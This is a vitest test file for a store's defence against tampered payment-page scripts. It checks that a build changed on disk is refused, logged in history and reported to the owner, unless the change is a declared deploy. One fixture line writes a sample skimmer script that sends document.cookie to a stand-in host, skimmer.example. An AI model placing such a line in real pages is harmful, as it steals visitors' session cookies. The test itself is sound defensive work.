import { mkdirSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from './helpers/testDatabases.ts';
import { testConfig } from './helpers/testApp.ts';
import { fakeStoreRoot } from './helpers/fakeRemoteBuild.ts';
import { shellHtml, writeShellDocument } from './helpers/shellDocument.ts';
import { seedRegistry } from '../src/remotes/seedRegistry.ts';
import { alertRefusedShell } from '../src/remotes/shellBuild.ts';
import { listHistory } from '../src/remotes/registryStore.ts';
import type { Db } from '../src/db/db.ts';
import type { MailMessage } from '../src/mail/mailer.ts';
import { DOCUMENT_TEMPLATE_FILE } from '@store/shared/document';

const added = '<script src="/assets/added.js"></script>';

describe.each(testDatabases)("a start and the shell's build on disk on $name (#39 item 8)", (database) => {
  let db: Db;
  let root = '';
  const dist = () => join(root, 'shell', 'dist');
  const config = () => testConfig({ frontendsRoot: root, ownerEmail: 'owner@example.com' });
  const start = (shellReason?: string) => seedRegistry(db, { frontendsRoot: root, defaults: config().remotes, publicUrl: config().publicUrl, shellReason });
  const inventoried = async (path: string) => (await db.query<{ version: string }>("SELECT version FROM script_hashes WHERE remote = 'shell' AND path = $1", [path])).map((r) => r.version);
  /** a build written over the last one, as an edit of shell/dist would be */
  function changeBuild(tags: string, mtime: number) {
    writeFileSync(join(dist(), 'assets', 'added.js'), 'fetch("https://skimmer.example/" + document.cookie);\n');
    writeShellDocument(dist(), shellHtml({ tags }));
    // shellVersion re-reads the template when its mtime changes: set one apart from the first write's
    utimesSync(join(dist(), DOCUMENT_TEMPLATE_FILE), mtime, mtime);
  }

  beforeAll(async () => {
    root = fakeStoreRoot({ catalog: { routes: [{ path: '/shop', page: 'ShopPage' }], pages: { ShopPage: 'ok' } } });
    mkdirSync(join(dist(), 'assets'), { recursive: true });
    writeFileSync(join(dist(), 'assets', 'entry.js'), 'console.log("shell");\n');
    writeShellDocument(dist());
    db = await database.open();
  });
  afterAll(async () => {
    await db.close();
  });

  it("trusts the build on the store's first start", async () => {
    const first = await start();
    expect(first.shell.outcome).toBe('first');
    expect(await inventoried('assets/entry.js')).toHaveLength(1);
    expect((await listHistory(db, 'shell'))[0]).toMatchObject({ action: 'seed', actor: 'start' });
    expect((await start()).shell.outcome).toBe('known');
  });

  it('refuses a build changed on disk at the next start: not inventoried, in the history, the owner told', async () => {
    changeBuild(`<script type="module" crossorigin src="/assets/entry.js"></script>${added}`, 2_000_000_000);
    const again = await start();
    expect(again.shell).toMatchObject({ outcome: 'refused' });
    expect(await inventoried('assets/added.js')).toEqual([]);
    const [last] = await listHistory(db, 'shell');
    expect(last).toMatchObject({ action: 'refused', actor: 'start', reason: expect.stringContaining('SHELL_DEPLOY_REASON') });
    const sent: MailMessage[] = [];
    await alertRefusedShell({ db, config: config(), mail: { send: async (m: MailMessage) => void sent.push(m) } as never }, again.shell);
    expect(sent).toHaveLength(1);
    expect(sent[0]!.to).toBe('owner@example.com');
    expect(sent[0]!.subject).toContain("payment page's scripts changed");
  });

  it('records it, with the reason, when the start is a deploy of the shell', async () => {
    const deployed = await start('new header from the release branch');
    expect(deployed.shell.outcome).toBe('deployed');
    expect(await inventoried('assets/added.js')).toHaveLength(1);
    expect((await listHistory(db, 'shell'))[0]).toMatchObject({ action: 'deploy', actor: 'start', reason: 'new header from the release branch' });
  });
});
